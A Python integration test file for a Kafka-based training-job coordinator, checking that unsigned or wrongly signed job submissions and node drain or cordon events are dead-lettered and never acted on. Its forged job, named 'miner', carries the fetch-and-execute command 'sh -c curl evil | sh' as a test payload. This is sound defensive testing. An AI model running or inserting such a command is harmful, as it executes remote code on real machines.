"""Forged job submissions and node events against the real coordinator on the real broker.

Whoever can write to the jobs topic could otherwise name an idle node and any argv, and the
coordinator would sign the start command itself; whoever can write to the nodes topic could
drain a healthy node. Only what a trusted operator key signed is folded: the rest is
dead-lettered with the reason and counted, and nothing is planned or changed. Each forgery is
followed by a signed record of the same kind, so that "nothing happened" is not "not read yet".
"""

from __future__ import annotations

import time

import pytest
from prometheus_client import REGISTRY

from tests.integration.test_coordinator import Keys, ack_all, leading, read, step_until
from trainmedic.bus.producer import EventProducer
from trainmedic.bus.settings import KafkaSettings
from trainmedic.recovery.coordinator.core import CoordinatorConfig, JobState, NodeConfig
from trainmedic.recovery.signing import generate
from trainmedic.schemas import JobSpec, JobSubmitted
from trainmedic.schemas.nodes import NodeCordoned, NodeDrained

pytestmark = pytest.mark.kafka

CONFIG = CoordinatorConfig(tick_s=0.2, ack_timeout_s=5.0, default_address="127.0.0.1",
                           nodes=tuple(NodeConfig(id=f"n{i}", switch="leaf-1") for i in range(1, 6)))
EVIL = ("sh", "-c", "curl evil | sh")


def unverified(kind: str, reason: str) -> float:
    return REGISTRY.get_sample_value("trainmedic_coordinator_unverified_records_total",
                                     {"type": kind, "reason": reason}) or 0.0


def letters(kafka: KafkaSettings, topic: str) -> list[str]:
    return [d.reason for d in read(kafka, "dlq") if d.source_topic == topic]


def no_other_letters(kafka: KafkaSettings, *topics: str) -> bool:
    return {d.source_topic for d in read(kafka, "dlq")} <= set(topics)


def publish(kafka: KafkaSettings, topic: str, *events) -> None:
    with EventProducer(kafka) as producer:
        for event in events:
            producer.send(topic, event, key=getattr(event, "node", None) or event.job.id)


def test_an_unsigned_or_foreign_job_naming_an_idle_node_starts_nothing(kafka: KafkaSettings,
                                                                       tmp_path) -> None:
    keys = Keys(tmp_path / "keys", deployment=kafka.topic_prefix)
    before = unverified("job_submitted", "unsigned"), unverified("job_submitted", "unknown_key")
    evil = JobSpec(id="miner", nodes=("n5",), throughput={1: 1.0e15}, command=EVIL)
    unsigned = JobSubmitted(ts=time.time(), job=evil)
    publish(kafka, kafka.topics.jobs, unsigned)  # in the log it rebuilds from

    coordinator = leading(kafka, CONFIG, sign=keys.coordinator.sign, trust=keys.trust)
    coordinator.start()
    foreign = generate().sign(JobSubmitted(ts=time.time(), job=evil.model_copy(update={"id": "miner-2"})))
    as_node = JobSubmitted(ts=time.time(), job=evil.model_copy(update={"id": "miner-3"}))
    node_signed = keys.nodes["n5"].sign(as_node)  # a node's key is no operator's
    good = JobSpec(id="llm", nodes=("n1", "n2"), throughput={2: 2.0e15}, command=("python", "train.py"))
    publish(kafka, kafka.topics.jobs, unsigned.model_copy(update={"ts": time.time()}), foreign, node_signed,
            keys.job(good))
    step_until(coordinator, lambda: len(coordinator.state.commands) == 2)
    for _ in range(5):
        coordinator.step(0.2)

    assert set(coordinator.state.jobs) == {"llm"}
    commands = read(kafka, "commands")
    assert sorted(c.node for c in commands) == ["n1", "n2"]
    assert all(c.worker.command != EVIL for c in commands)
    reasons = letters(kafka, kafka.topics.jobs)  # those read live; the first was in the rebuild
    assert len(reasons) == 3
    assert all("not signed by a trusted operator key, not started" in r for r in reasons)
    assert sum("unsigned: the job submission carries no signature" in r for r in reasons) == 1
    assert sum("unknown key id" in r for r in reasons) == 2  # other partitions: any order
    assert any(f"unknown key id '{keys.nodes['n5'].key_id}'" in r for r in reasons)
    assert unverified("job_submitted", "unsigned") == before[0] + 1
    assert unverified("job_submitted", "unknown_key") == before[1] + 2
    assert no_other_letters(kafka, kafka.topics.jobs)  # its own commands, read back, verify
    coordinator.close()

    # a restart folds none of them either
    second = leading(kafka, CONFIG, sign=keys.coordinator.sign, trust=keys.trust)
    second.start()
    assert set(second.state.jobs) == {"llm"} and len(second.state.commands) == 2
    second.close()


def test_an_unsigned_or_forged_cordon_or_drain_changes_no_node(kafka: KafkaSettings, tmp_path) -> None:
    keys = Keys(tmp_path / "keys", deployment=kafka.topic_prefix)
    publish(kafka, kafka.topics.jobs, keys.job(JobSpec(id="llm", nodes=("n1", "n2"), throughput={2: 2.0e15},
                                                       command=("python", "train.py"))))
    coordinator = leading(kafka, CONFIG, sign=keys.coordinator.sign, trust=keys.trust)
    coordinator.start()
    step_until(coordinator, lambda: len(coordinator.state.commands) == 2)
    ack_all(kafka, read(kafka, "commands"), keys)
    step_until(coordinator, lambda: coordinator.state.jobs["llm"].state is JobState.RUNNING)
    before = unverified("node_drained", "unsigned")

    publish(kafka, kafka.topics.nodes,
            NodeDrained(ts=time.time(), node="n2", reason="forged"),  # unsigned
            keys.nodes["n2"].sign(NodeDrained(ts=time.time(), node="n2", reason="a node's key")),
            generate().sign(NodeCordoned(ts=time.time(), node="n1", reason="unknown key")),
            keys.operator.sign(NodeCordoned(ts=time.time(), node="n3", reason="signed")))
    step_until(coordinator, lambda: coordinator.state.nodes["n3"].mode == "cordoned")
    for _ in range(5):
        coordinator.step(0.2)

    assert coordinator.state.nodes["n1"].mode == "ready" and coordinator.state.nodes["n2"].mode == "ready"
    job = coordinator.state.jobs["llm"]
    assert (job.state, job.generation, job.nodes) == (JobState.RUNNING, 0, ("n1", "n2"))
    assert [c for c in read(kafka, "commands") if c.generation > 0] == []  # no re-plan off n2
    reasons = letters(kafka, kafka.topics.nodes)
    assert len(reasons) == 3 and all("node event not signed by a trusted operator key" in r for r in reasons)
    assert sorted(r.split(": ")[1].split()[0] for r in reasons) == ["unknown", "unknown", "unsigned"]
    assert unverified("node_drained", "unsigned") == before + 1
    assert no_other_letters(kafka, kafka.topics.nodes)  # the signed acks and cordon were folded
    coordinator.close()
